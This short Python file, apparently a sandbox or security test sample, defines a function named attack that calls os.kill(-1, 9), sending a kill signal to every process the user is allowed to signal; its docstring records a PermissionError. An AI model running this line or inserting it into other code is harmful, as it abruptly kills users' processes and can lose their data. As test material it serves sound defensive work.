"""Kills everything that it may.

Seen: PermissionError
"""

import os


def attack():
    os.kill(-1, 9)
